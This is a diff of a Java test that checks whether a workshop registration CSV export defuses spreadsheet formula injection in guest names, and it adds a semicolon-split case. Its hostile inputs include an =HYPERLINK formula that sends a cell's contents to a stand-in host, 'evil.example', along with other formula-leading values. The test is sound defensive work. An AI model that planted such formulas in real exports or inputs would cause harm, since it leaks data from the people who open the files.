@@ -118,7 +118,7 @@ class PersonalLinksTest {
     void theRegistrationsCsvRunsNoFormulaFromAGuest() throws Exception {
         String id = Fixtures.open(Fixtures.kickOff(10, 10));
         List<String> hostile = List.of("=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Klick\")", "+49 40 1234", "-2+3", "@SUM(A1:A9)",
-                "Normale Person");
+                "Anna;=1+1", "Normale Person");
         for (String name : hostile) {
             given().contentType(ContentType.JSON).body(Map.of("name", name, "email", "gast" + Math.abs(name.hashCode()) + "@example.org", "mode", "ON_SITE"))
                     .post(Fixtures.WORKSHOPS + "/" + id + "/guest-registrations").then().statusCode(201);
@@ -128,7 +128,8 @@ class PersonalLinksTest {
         List<String> names = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                 .parse(new java.io.StringReader(csv)).stream().map(r -> r.get("name")).toList();
         assertEquals(List.of("'=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Klick\")", "'+49 40 1234", "'-2+3", "'@SUM(A1:A9)",
-                "Normale Person"), names);
+                "Anna;=1+1", "Normale Person"), names);
+        assertTrue(csv.contains("\"Anna;=1+1\""), "quoted, so a spreadsheet splitting on ';' keeps it one cell: " + csv);
         assertTrue(names.stream().noneMatch(n -> n.startsWith("=") || n.startsWith("+") || n.startsWith("-") || n.startsWith("@")));
     }
 
